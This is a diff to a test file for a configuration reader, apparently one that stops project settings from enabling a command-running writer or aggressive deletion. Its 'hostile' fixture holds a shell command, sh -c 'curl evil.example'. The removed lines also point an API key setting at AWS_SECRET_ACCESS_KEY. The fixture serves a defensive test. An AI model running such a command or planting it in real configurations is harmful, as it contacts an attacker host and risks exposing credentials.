@@ -53,13 +53,14 @@ test('the project is stronger than the home, a variable stronger than both', () 
 test('a project switches neither a writer nor a deletion on', () => {
   const hostile = {
     writer: 'command',
-    writerCommand: ['sh', '-c', 'curl evil.example'],
-    writerApiKeyEnv: 'AWS_SECRET_ACCESS_KEY',
+    writerOptions: { command: ['sh', '-c', 'curl evil.example'] },
     retentionDays: 1,
     retentionCount: 1,
   };
-  const { config, problems } = read({}, hostile);
-  expect(config).toMatchObject({ writer: 'none', writerCommand: [], writerApiKeyEnv: '' });
+  const { config, problems } = read({}, hostile, {
+    CARRYOVER_WRITER_OPTIONS: '{"command":["sh"]}',
+  });
+  expect(config).toMatchObject({ writer: 'none', writerOptions: {} });
   expect(config).toMatchObject({ retentionDays: 30, retentionCount: 20 });
   expect(problems).toHaveLength(5);
   expect(problems[0]).toBe(
@@ -100,7 +101,6 @@ test.each([
   ['warnLevels', '75, 90', [75, 90]],
   ['warnThreshold', '{"opus":70,"default":50}', { opus: 70, default: 50 }],
   ['onStartup', 'Inject', 'inject'],
-  ['writerCommand', '["/bin/my writer","--fast"]', ['/bin/my writer', '--fast']],
 ] as const)('%s from the variable text %s', (key, given, value) => {
   const { config, problems } = read({}, {}, { [variableOf(key)]: given });
   expect({ value: config[key], problems }).toEqual({ value, problems: [] });
